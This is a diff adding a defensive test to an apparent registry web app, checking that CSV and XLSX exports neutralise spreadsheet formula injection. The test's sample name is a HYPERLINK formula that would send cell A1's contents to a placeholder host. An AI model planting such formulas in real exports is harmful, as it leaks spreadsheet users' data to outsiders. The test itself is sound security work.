@@ -111,3 +111,18 @@ def test_export_csv_and_xlsx_can_be_read_back(client: TestClient) -> None:
     path = client.app.state.settings.data_dir / "back.csv"  # type: ignore[attr-defined]
     path.write_bytes(_csv([[c for i, c in enumerate(row) if i != 1] for row in rows]))
     assert len(parse_records(path, place_check=place_check)) == len(rows) - 1
+
+
+def test_exports_keep_formula_like_names_as_text(client: TestClient) -> None:
+    login(client, "langson")
+    evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    r = post(client, "/registry/new", {"name": evil, "kind": "HTX", "sector": "agriculture",
+                                        "commune_code": COMMUNE, "founded_on": "15/03/2022", "members": "7"})
+    assert r.status_code == 303
+    rows = list(csv.reader(io.StringIO(client.get("/registry/export.csv").content.decode("utf-8-sig"))))
+    names = [row[2] for row in rows]
+    assert "'" + evil in names and evil not in names
+    ws = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
+    assert ws is not None
+    cells = [c for c in ws["C"] if c.value == evil]
+    assert len(cells) == 1 and cells[0].data_type == "s"  # the text, not a live formula
